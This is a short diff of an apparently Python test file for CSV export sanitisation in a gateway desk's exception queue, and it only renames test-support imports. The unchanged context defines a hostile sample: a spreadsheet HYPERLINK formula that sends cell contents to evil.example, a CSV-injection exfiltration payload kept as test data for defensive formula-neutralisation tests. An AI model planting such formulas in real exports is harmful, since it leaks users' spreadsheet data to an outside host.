@@ -22,9 +22,9 @@ from gateway.desk.exception_queue_csv import FORMULA_STARTS
 from gateway.desk.exception_queue_csv import neutralise
 from gateway.inbound.pipeline import Pipeline
 from partners import PartnerRegistry
-from tests.test_web_desk_support import NOW
-from tests.test_web_desk_support import DeskApp
-from tests.test_web_desk_support import build_store
+from tests.web.test_web_desk_support import NOW
+from tests.web.test_web_desk_support import DeskApp
+from tests.web.test_web_desk_support import build_store
 
 HOSTILE_POS = (
     '=HYPERLINK("http://evil.example/?leak="&A1;"Click me")',
